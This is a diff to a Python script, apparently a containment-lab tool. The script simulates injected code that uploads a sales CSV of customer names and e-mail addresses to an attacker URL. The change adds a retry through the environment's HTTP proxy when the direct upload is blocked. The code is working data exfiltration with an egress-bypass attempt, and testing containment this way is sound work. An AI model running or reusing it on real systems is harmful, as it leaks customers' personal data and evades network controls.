@@ -6,9 +6,11 @@
 
 Reads the sales CSV (LAB_DATA), which holds customer names and e-mail
 addresses, and POSTs the whole file to the attacker's URL (LAB_ATTACKER) with
-nothing but urllib from the standard library. Proxy settings are ignored on
-purpose: the upload goes straight to the attacker, as injected code would.
-Prints the HTTP status if the upload went through, or the error as raised.
+nothing but urllib from the standard library. It goes straight to the
+attacker first, ignoring proxy settings, as injected code would; only if
+that fails and the environment names a proxy (HTTP_PROXY) does it try once
+more through it. Prints the HTTP status if the upload went through, or the
+error as raised.
 """
 import os
 import sys
@@ -33,24 +35,37 @@ def main():
           flush=True)
     print(f"POST {url} (Content-Type: text/csv)", flush=True)
 
-    req = urllib.request.Request(
-        url, data=body, method="POST",
-        headers={"Content-Type": "text/csv", "User-Agent": "agent-helper/1.0"})
-    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
-    try:
-        with direct.open(req, timeout=3) as resp:
-            resp.read(4096)
-            print(f"upload accepted: HTTP {resp.status} {resp.reason}",
-                  flush=True)
+    routes = [("direct", urllib.request.ProxyHandler({}))]
+    proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
+    if proxy:
+        routes.append((f"through the proxy {proxy}",
+                       urllib.request.ProxyHandler({"http": proxy})))
+    for how, handler in routes:
+        req = urllib.request.Request(
+            url, data=body, method="POST",
+            headers={"Content-Type": "text/csv",
+                     "User-Agent": "agent-helper/1.0"})
+        opener = urllib.request.build_opener(handler)
+        try:
+            with opener.open(req, timeout=3) as resp:
+                resp.read(4096)
+                print(f"upload accepted ({how}): HTTP {resp.status} "
+                      f"{resp.reason}", flush=True)
+                return 0
+        except urllib.error.HTTPError as e:
+            if e.headers.get("X-Containment-Lab") == "egress proxy":
+                # The proxy answered, not the attacker: nothing got through.
+                print(f"refused ({how}): HTTP {e.code} "
+                      f"{e.read(512).decode('utf-8', 'replace').strip()}",
+                      flush=True)
+                continue
+            # The server answered, so the bytes already reached it.
+            print(f"server answered HTTP {e.code} {e.reason} "
+                  f"(the data was already sent)", flush=True)
             return 0
-    except urllib.error.HTTPError as e:
-        # The server answered, so the bytes already reached it.
-        print(f"server answered HTTP {e.code} {e.reason} "
-              f"(the data was already sent)", flush=True)
-        return 0
-    except Exception as e:  # URLError, timeout, reset, ...
-        print(f"upload failed: {e}", flush=True)
-        return 1
+        except Exception as e:  # URLError, timeout, reset, ...
+            print(f"upload failed ({how}): {e}", flush=True)
+    return 1
 
 
 if __name__ == "__main__":
